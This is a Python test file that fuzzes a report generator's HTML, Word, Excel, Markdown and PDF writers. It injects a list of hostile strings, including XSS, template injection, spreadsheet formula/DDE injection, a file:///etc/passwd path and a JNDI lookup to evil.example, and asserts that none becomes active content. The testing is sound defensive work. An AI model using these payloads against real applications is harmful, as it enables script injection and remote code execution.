"""Hostile words in every field of a summary reach no markup, formula, link or script of any format."""

from __future__ import annotations

import io
import json
import random
import re
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pypdfium2 as pdfium
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import briefing
from briefing.api.formats import formats
from briefing.errors import BriefingError, UsageError
from briefing.writers.json import loads_summary

LONG = settings().max_examples > 1000
HOSTILE = (
    "<b>x</b>", "</p><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "{{7*7}}",
    "{% for x in y %}", "{#", "=1+1",
    "=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "javascript:alert(1)", "http://evil.example/?a=<b>", "file:///etc/passwd", "|a|b|", "# 一", "```", "&amp;lt;",
    "&#x3c;script&#x3e;", "\x00\x01", "\x1b[31m",
    "\u202e\u2066", "\ufdd0\ufdd1", "\ufffe", "\U00020000\U000e0001", "]]>", "--><!--", "%PDF-1.7", "\\u003c", "\n@chart x\n",
    "\n# 标题\n", "@table", "甲" * 3000,
    "（" * 300, "", " ", "\u3000", "_x003d_1+1", "<para>", "<link href='x'>", "<font size=99>", "/URI (http://evil.example)",
    "${jndi:ldap://evil.example}",
)  # fmt: skip
Place = tuple[str | int, ...]


@pytest.fixture(scope="module")
def summary(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    folder = tmp_path_factory.mktemp("来源")
    (folder / "briefing.toml").write_text(
        'region = "云岭市"\nname = "云岭市情简报"\npublisher = "云岭市政府办公室"\n'
        '[[district]]\nname = "清河区"\n[[district]]\nname = "白石县"\n',
        encoding="utf-8",
    )
    (folder / "a.txt").write_text(
        "云岭市经济运行情况\n发布时间：2024-12-20\n2024年1—11月，全市规模以上工业增加值同比增长5.4%，居全省第三位。清河区固定资产投资增长8.3%，白石县增长9.1%。\n"
        "清河区打造智能装备产业基地，城东产业园项目总投资12.5亿元，已开工建设，存在用地手续未办结的问题，计划2025年6月投产。\n",
        encoding="utf-8",
    )
    (folder / "b.txt").write_text(
        "云岭市统计局\n发布时间：2024-12-21\n2024年1—11月，全市规模以上工业增加值同比增长6.4%。\n", encoding="utf-8"
    )
    result = briefing.make(folder, out=tmp_path_factory.mktemp("out"), formats=("json",))
    found: dict[str, Any] = json.loads(result.paths["json"].read_bytes())
    return found


def leaves(value: Any, place: Place = ()) -> Iterator[Place]:
    """Where texts stand."""
    if isinstance(value, dict | list):
        for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
            yield from leaves(inner, (*place, key))
    elif isinstance(value, str):
        yield place


def put(data: Any, place: Place, change: Callable[[str], str]) -> Any:
    """The data with a text changed."""
    for key in place[:-1]:
        data = data[key]
    data[place[-1]] = change(data[place[-1]])
    return data


@pytest.fixture(scope="module")
def free(summary: dict[str, Any]) -> list[Place]:
    """Where any text may stand: no number, date, name of a level, nor what other facts refer to."""
    found = []
    for place in leaves(summary):
        changed = json.loads(json.dumps(summary))
        put(changed, place, lambda text: text + "甲")
        try:
            loads_summary(json.dumps(changed).encode())
        except UsageError:
            continue
        if place[-1] not in ("id", "key"):
            found.append(place)
    assert len(found) > 80
    return found


class _Page(HTMLParser):
    """The elements, handlers and addresses of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.handlers: list[str] = []
        self.links: list[str] = []
        self.scripts = 0
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.scripts += tag == "script"
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.links += [
            value or "" for name, value in attrs if name in ("href", "src", "action", "xlink:href", "srcset", "formaction")
        ]


def safe(files: dict[str, bytes], plain: dict[str, bytes]) -> None:
    """Nothing in the files acts that does not act in those of the same summary without traps."""
    page, before = _Page(files["briefing.html"].decode()), _Page(plain["briefing.html"].decode())
    assert page.tags <= before.tags | {"sup", "sub", "em", "br"}, page.tags - before.tags
    assert page.scripts == before.scripts and page.handlers == before.handlers
    assert not [
        link
        for link in page.links
        if not link.startswith(("#", "data:image/", "data:font/", "blob:", "https:", "http:", "mailto:"))
    ]
    assert not [link for link in page.links if "evil" in link and "<" in link]
    for name in ("ledger.xlsx", "briefing.docx"):
        with zipfile.ZipFile(io.BytesIO(files[name])) as package:
            for part in package.namelist():
                text = package.read(part).decode("utf-8", "replace")
                assert not part.endswith(".bin") and "<f>" not in text and "<f " not in text, part
                assert (
                    "DDEAUTO" not in text
                    and "ddeLink" not in text
                    and "w:fldSimple" not in text
                    and "javascript:" not in "".join(re.findall(r'Target="[^"]*"', text))
                ), part
    told = files["briefing.md"].decode()
    bare = re.sub(r"\\.", "", told)
    assert not re.search(r"<(?:script|img|b|a|para|link|font)\b", bare), re.findall(
        r".{20}<(?:script|img|b|a|para|link|font)\b.{20}", bare
    )
    assert not re.search(r"\]\((?:javascript|file|http:[^)]*evil)", bare)
    if "briefing.pdf" in files:
        data = files["briefing.pdf"]
        assert b"/JavaScript" not in data and b"/Launch" not in data and b"/JS " not in data
        document = pdfium.PdfDocument(data)
        assert len(document) < 80
        document.close()


def written(found: briefing.Summary, options: briefing.Options, names: tuple[str, ...]) -> dict[str, bytes]:
    document = briefing.compose(found, options)
    return {formats()[name][0]: formats()[name][1](found, document, options) for name in names}


@pytest.mark.parametrize(
    "names", [("html", "docx", "xlsx", "md", "json"), ("html", "docx", "xlsx", "md", "json", "pdf")], ids=["all but pdf", "pdf"]
)
def test_no_word_of_a_summary_acts(summary: dict[str, Any], free: list[Place], names: tuple[str, ...]) -> None:
    options = briefing.load_options(None, missing_glyph="box")
    plain = written(loads_summary(json.dumps(summary).encode()), options, names)
    most = (1500 if LONG else 20) if "pdf" not in names else (200 if LONG else 4)

    ends: Counter[str] = Counter()

    @settings(max_examples=most)
    @given(st.integers(0, 2**40))
    @example(0)
    @example(303930916)  # a district without a name
    def check(seed: int) -> None:
        chance = random.Random(seed)
        changed = json.loads(json.dumps(summary))
        often = chance.choice((0.02, 0.1, 0.4))
        for place in free:
            if chance.random() < often:
                trap = chance.choice(HOSTILE)
                put(changed, place, lambda text, trap=trap: chance.choice((trap, text + trap, trap + text)))  # type: ignore[misc]
        try:
            found = loads_summary(json.dumps(changed).encode())
        except UsageError:
            return  # two changes that do not go together
        try:
            files = written(found, options, names)
        except BriefingError as error:
            assert len(str(error)) > 10
            return
        ends["safe"] += 1
        safe(files, plain)
        assert loads_summary(files["briefing.json"]) == found

    check()
    assert ends["safe"] > most // 4, "the traps reach the writers"


def test_a_place_may_have_a_number_in_its_name(tmp_path: Path) -> None:
    folder = tmp_path / "来源"
    folder.mkdir()
    places = "".join(f'[[district]]\nname = "{name}"\n' for name in ("150团", "第8师清河区", "白石县"))
    (folder / "briefing.toml").write_text(f'region = "云岭市"\nname = "云岭市情简报"\n{places}', encoding="utf-8")
    (folder / "a.txt").write_text(
        "云岭市经济运行情况\n发布时间：2024-12-20\n2024年1—11月，第8师清河区固定资产投资增长9.1%，白石县固定资产投资增长7.1%。\n150团打造智能装备产业基地。\n"
        "150团城东产业园项目总投资12.5亿元，已开工建设。\n",
        encoding="utf-8",
    )
    result = briefing.make(folder, out=tmp_path / "out")
    assert briefing.verify(result.paths["pdf"], sources=folder).ok
